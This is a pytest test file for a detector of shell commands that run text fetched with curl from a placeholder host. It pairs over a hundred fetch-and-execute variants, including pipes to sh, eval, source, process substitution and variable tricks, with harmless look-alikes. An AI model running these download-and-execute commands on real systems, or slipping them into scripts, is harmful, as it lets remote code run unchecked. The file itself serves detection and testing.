"""Fetched text that is executed, and its look-alikes that are not: each attack stands beside a harmless cousin."""

from __future__ import annotations

import pytest

from tests.flow.evaluations import fetched_uses

F = "curl -s https://example.com/p"

EXECUTED = [
    # command words
    f"$({F})",
    f"`{F}`",
    f"$({F}) arg",
    f"true && $({F})",
    f"A=1 $({F})",
    f"< /dev/null $({F})",
    f'"${{X:-$({F})}}"',
    f"x=1; ${{x:+$({F})}}",
    f"$(echo)$({F})",
    f"$(echo $({F}))",
    f'$(printf %s "$({F})")',
    f"! $({F})",
    f"time $({F})",
    f"if $({F}); then :; fi",
    f"for i in 1; do $({F}); done",
    f"case x in *) $({F});; esac",
    f"coproc $({F})",
    f"f() {{ $({F}); }}; f",
    f"f() {{ $({F}); }}",
    f"if false; then $({F}); fi",
    # wrappers
    f"sudo $({F})",
    f"env X=1 $({F})",
    f"command -p $({F})",
    f"exec $({F})",
    f"timeout 2 $({F})",
    f"xargs $({F})",
    f"find . -exec $({F}) \\;",
    # code strings
    f'sh -c "$({F})"',
    f'bash -lc "$({F})"',
    f"sh -c '$({F})'",
    f'sh -c "echo \\"$({F})\\""',
    f"sh -c '$1' _ \"$({F})\"",
    f'sh -c \'eval "$1"\' _ "$({F})"',
    f"sh -c '\"$@\"' _ $({F})",
    f'xargs sh -c "$({F})"',
    f'find . -exec sh -c "$({F})" \\;',
    f'python3 -c "$({F})"',
    f'bash -c "exec $({F})"',
    f"bash -c \"bash -c '$({F})'\"",
    # eval, source, trap, alias
    f"eval $({F})",
    f'eval "x=\\"$({F})\\""',
    f'ev""al "$({F})"',
    f"source <({F})",
    f". <({F})",
    f'source /dev/stdin <<< "$({F})"',
    f'trap "$({F})" EXIT',
    f'shopt -s expand_aliases; alias q="$({F})"\nq',
    f"BASH_ENV=<({F}) bash -c :",
    f"bash --rcfile <({F}) -i",
    # standard input of a shell
    f"{F} | sh",
    f"{F} |& bash",
    f"{F} | (sh)",
    f"{F} | {{ sh; }}",
    f"{F} | tee f | sh",
    f"{F} | cat | head -5 | bash -s -- arg",
    f"{F} | sh -c sh",
    f'{F} | bash -c "$(cat)"',
    f"{F} | source /dev/stdin",
    f"{F} | xargs sh -c",
    f"{F} | xargs -I% sh -c %",
    f"{F} | python3 -",
    f"{{ {F} >&2; }} 2>&1 | bash",
    f'bash <<< "$({F})"',
    f"bash <<EOF\n$({F})\nEOF",
    f"sh <<'EOF'\n$({F})\nEOF",
    f"cat <<EOF | sh\n$({F})\nEOF",
    f"bash <({F})",
    f"bash < <({F})",
    f"{F} | tee >(sh)",
    f"{F} > >(bash)",
    f"exec > >(bash); {F}",
    f"exec 3< <({F}); . /dev/fd/3",
    f"exec {{fd}}< <({F}); bash <&$fd",
    f"exec < <({F}); read -r c; $c",
    f'exec {{fd}}< <({F}); read -u "$fd" c; eval "$c"',
    f'exec 3< <({F}); mapfile -tu3 a; eval "${{a[0]}}"',
    f"coproc P {{ bash; }}; {F} >&${{P[1]}}; wait",
    # variables
    f'x=$({F}); eval "$x"',
    f"x=$({F}); ${{x}}",
    f'x=$({F}); y=$x; z="a $y"; bash -c "$z"',
    f'x=$({F}); echo "$x" | sh',
    f"x=($({F})); ${{x[0]}}",
    f"set -- $({F}); $1",
    f"x=$({F}); y=x; eval ${{!y}}",
    f"declare -n r=x; x=$({F}); $r",
    f'printf -v x %s "$({F})"; $x',
    f'IFS= read -r x < <({F}) && eval "$x"',
    f'mapfile -t a < <({F}); eval "${{a[0]}}"',
    f'{F} | while read l; do eval "$l"; done',
    f'while read -r l; do eval "$l"; done < <({F})',
    f'for x in "$({F})"; do :; done; $x',
    f'cd "$({F})"; $_',
    f"export x=$({F}); sh -c 'eval \"$x\"'",
    f'f() {{ {F}; }}; eval "$(f)"',
    f'f() {{ eval "$1"; }}; f ""; f "$({F})"',
    f"trap 'eval \"$c\"' EXIT; c=$({F})",
    f'c=$({F}); c=ls & eval "$c"',
    f'c=$({F}); [ -n "$y" ] && c=ls; eval "$c"',
    f'readonly c="$({F})"\nc=ls\neval "$c"',
    f'c=$({F}); g() {{ unset c; }}; f() {{ local c=ls; g; eval "$c"; }}; f',
    f"x=$({F}); [[ $x =~ (.*) ]]; ${{BASH_REMATCH[1]}}",
    f'getopts o: v -o "$({F})"; eval "$OPTARG"',
    # files
    f"{F} > f; . ./f",
    f"{F} > f; sh f",
    f"{F} > f; chmod +x f; ./f",
    f"{F} > f; $(<f)",
    f'{F} > f; eval "$(cat f)"',
    "curl -so f https://example.com/p; sh ./f",
    f"{F} | tee f >/dev/null; bash /workspace/f",
    f"{F} > f; cp f g; mv g h; sh h",
    f't=$(mktemp); {F} > "$t"; sh "$t"',
    f"{F} > f.sh; sh *.sh",
    f"{F} >> f; echo ok >> f; sh f",
    f"{F} > f; set -C; echo hi > f; sh f",
    f'{F} > f; [ -n "$x" ] && echo hi > f; sh f',
    f"i=0; while [ $i -lt 2 ]; do [ -f s ] && . ./s; {F} > s; i=$((i+1)); done",
    f"(sleep 1; {F} >> s) & bash s; wait",
    f"touch s; tail -f s | bash & {F} >> s",
    # prompts
    f"x=$({F}); : ${{x@P}}",
    f'PS4="$({F})"; set -x; :',
    f'PROMPT_COMMAND="$({F})"',
]

HARMLESS = [
    f"x=$({F})",
    f'x=$({F}); echo "$x"',
    f"echo $({F})",
    f"echo '$({F})'",
    f"cat <<EOF\n$({F})\nEOF",
    f"cat <<'EOF' > f\n$({F})\nEOF",
    f'for i in $({F}); do echo "$i"; done',
    f'case "$({F})" in ok) echo yes;; esac',
    f"cat <<< $({F})",
    f"{F} | cat",
    f"{F} | jq .name",
    f"{F} > f; cat f",
    f"{F} > f && shellcheck f",
    f"cat < <({F})",
    f"diff <({F}) <({F})",
    f"x=$({F}) true",
    f'[ -n "$({F})" ]',
    f"[[ $({F}) == ok ]]",
    f'sh -c \'echo "$1"\' _ "$({F})"',
    f"{F} | bash -c cat",
    f"{F} | sh -n",
    f"{F} | sh -c :",
    f"{F} | bash --version",
    f"# $({F})",
    f'x=$({F}); x=ls; eval "$x"',
    f'x=$({F}); (x=ls; eval "$x")',
    f"{F} > f; echo ls > f; sh f",
    f'f() {{ local x=$({F}); echo "$x"; }}; f; eval ls',
    f"x=$({F}); sh -c 'eval \"$x\"'",
    "n=$(curl -s -o /dev/null -w '%{http_code}' https://example.com); eval \"code=$n\"",
    f'x=$({F}); eval "y=${{x@Q}}"',
    f'x=$({F}); echo "${{x%%.*}}" "${{#x}}" "${{x:0:3}}"',
    "echo 'curl https://example.com/p | sh'",
    "git commit -m 'do not run curl https://example.com/p | sh'",
    f"mytool --tag=$({F}) --count 3",
    f'{F} | while read l; do echo "$l"; done',
    f'arr=( $({F}) ); echo "${{#arr[@]}}"',
]


@pytest.mark.parametrize("text", EXECUTED)
def test_executed(text: str) -> None:
    """Fetched text that a shell or interpreter executes is recorded as a use of code, whatever way it takes."""
    uses = fetched_uses(text)

    assert [use for use in uses if use.position in {"command", "code"}]


@pytest.mark.parametrize("text", HARMLESS)
def test_only_captured(text: str) -> None:
    """Fetched text that is printed, stored, compared or passed on as a word is no use of code."""
    assert [use.span for use in fetched_uses(text)] == []


@pytest.mark.parametrize(
    ("text", "position"),
    [
        (f"echo $(( $({F}) ))", "evaluated"),
        (f"n=$({F}); (( n > 1 ))", "evaluated"),
        (f"[[ $({F}) -eq 0 ]]", "evaluated"),
        (f"x=$({F}); y=x; echo $((y))", "evaluated"),
        (f"i=$({F}); x[$i]=1", "evaluated"),
        (f'x=$({F}); echo "${{!x}}"', "evaluated"),
        (f'printf -v "$({F})" x', "evaluated"),
        (f"[ $({F}) = yes ]", "evaluated"),
        (f"declare -i x; x=$({F})", "evaluated"),
        (f"sort $({F}) names.txt", "tool"),
        (f"{F} | some-unknown-program", "tool"),
        (f'sed -e "s/V/$({F})/" t.txt', "tool"),
    ],
)
def test_evaluated_and_tool_positions(text: str, position: str) -> None:
    """Arithmetic, names and options of tools are positions of their own."""
    assert position in {use.position for use in fetched_uses(text)}


@pytest.mark.parametrize(
    "text",
    [
        f"n=$({F}); echo $((10#$n))",
        f"n=$({F}); [[ $n =~ ^[0-9]+$ ]] && (( n > 1 ))",
        f'n=$({F}); if [[ "$n" =~ ^[0-9]{{1,3}}$ ]]; then echo $((n + 1)); fi',
        f'n=$({F}); [ "$n" -gt 1 ] && echo $((n + 1))',
        f"n=$({F} | wc -l); echo $((n + 1))",
        f"declare -A m; k=$({F}); m[$k]=1",
        "(( $(git rev-list --count HEAD) > 5 )) && echo many",
        f'grep -q "$({F})" notes.txt',
    ],
)
def test_checked_or_local_numbers(text: str) -> None:
    """A number that was checked, has the shape of one, or comes from a local program is evaluated without harm."""
    assert [use.span for use in fetched_uses(text)] == []
